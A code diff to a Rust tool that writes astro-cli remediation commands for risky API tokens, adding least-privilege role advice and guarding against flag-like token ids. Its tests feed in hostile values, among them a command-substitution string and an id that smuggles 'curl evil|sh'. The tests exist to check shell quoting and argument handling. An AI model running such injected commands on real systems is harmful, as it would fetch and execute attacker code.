@@ -23,16 +23,19 @@ pub fn remediation(
     organization_id: &str,
     thresholds: &Thresholds,
 ) -> String {
-    let scope = Scope::of(token, organization_id);
     let token_id = shell_word(&token.id);
-    let Some(scope) = scope else {
+    if id == FindingId::OrganizationRole {
+        // Organization roles are managed with the organization's commands, whatever the type.
+        return least_privilege(token, &token_id, organization_id);
+    }
+    let Some(scope) = Scope::of(token, organization_id) else {
         return format!(
             "Manage it in the Astro UI (Organization Settings > Access Management > API Tokens): \
              astro-cli has no command for tokens of type {}",
             token.type_
         );
     };
-    let command = |verb: &str| format!("{} {verb} {token_id} {}", scope.group, scope.flag);
+    let command = |verb: &str| invocation(scope.group, verb, &token_id, &scope.flag);
     match id {
         FindingId::Expired => format!(
             "Delete the expired token (create a new one if it is still needed): {}",
@@ -60,29 +63,52 @@ pub fn remediation(
             "Rotate it, then update where it is used: {}",
             command("rotate")
         ),
-        FindingId::OrganizationRole => {
-            let org = Scope::organization(organization_id);
-            let over_member = organization_roles(token)
-                .any(|r| r.role == OWNER_ROLE || r.role == "ORGANIZATION_BILLING_ADMIN");
-            if over_member {
-                format!(
-                    "Grant only what it needs (least privilege); if it does not administer the \
-                     organization: {} update {token_id} --role {MEMBER_ROLE} {}",
-                    org.group, org.flag
-                )
-            } else {
-                format!(
-                    "Check it needs an organization role ({} roles {token_id} {}); else use a \
-                     Workspace or Deployment token with the least role it needs",
-                    org.group, org.flag
-                )
-            }
-        }
+        FindingId::OrganizationRole => least_privilege(token, &token_id, organization_id),
         FindingId::DuplicateName => format!(
-            "Give it a unique name (astro-cli's --name picks tokens by name): {} update \
-             {token_id} --new-name <NEW_NAME> {}",
-            scope.group, scope.flag
+            "Give it a unique name (astro-cli's --name picks tokens by name): {}",
+            invocation(
+                scope.group,
+                "update",
+                &token_id,
+                &format!("--new-name <NEW_NAME> {}", scope.flag)
+            )
         ),
+    }
+}
+
+/// Least privilege for a token with an organization role: lower an owner or billing admin
+/// to member, else check the role is needed at all.
+fn least_privilege(token: &ApiToken, token_id: &str, organization_id: &str) -> String {
+    let org = Scope::organization(organization_id);
+    let over_member = organization_roles(token)
+        .any(|r| r.role == OWNER_ROLE || r.role == "ORGANIZATION_BILLING_ADMIN");
+    if over_member {
+        format!(
+            "Grant only what it needs (least privilege); if it does not administer the \
+             organization: {}",
+            invocation(
+                org.group,
+                "update",
+                token_id,
+                &format!("--role {MEMBER_ROLE} {}", org.flag)
+            )
+        )
+    } else {
+        format!(
+            "Check it needs an organization role ({}); else use a Workspace or \
+             Deployment token with the least role it needs",
+            invocation(org.group, "roles", token_id, &org.flag)
+        )
+    }
+}
+
+/// `GROUP VERB ID FLAGS`; an id that starts with `-` goes last, after `--`, so that
+/// astro-cli cannot read it as a flag.
+fn invocation(group: &str, verb: &str, token_id: &str, flags: &str) -> String {
+    if token_id.starts_with('-') {
+        format!("{group} {verb} {flags} -- {token_id}")
+    } else {
+        format!("{group} {verb} {token_id} {flags}")
     }
 }
 
@@ -270,6 +296,14 @@ mod tests {
         assert_eq!(shell_word("it's"), "'it'\\''s'");
         assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
         assert_eq!(shell_word(""), "''");
+        let mut flag_like = token("ORGANIZATION", json!([]));
+        flag_like.id = "--force".to_owned();
+        assert!(
+            fix(FindingId::Expired, &flag_like)
+                .ends_with("astro organization token delete --organization-id clorg -- --force"),
+            "{}",
+            fix(FindingId::Expired, &flag_like)
+        );
         let mut hostile = token("ORGANIZATION", json!([]));
         hostile.id = "x;curl evil|sh".to_owned();
         assert!(
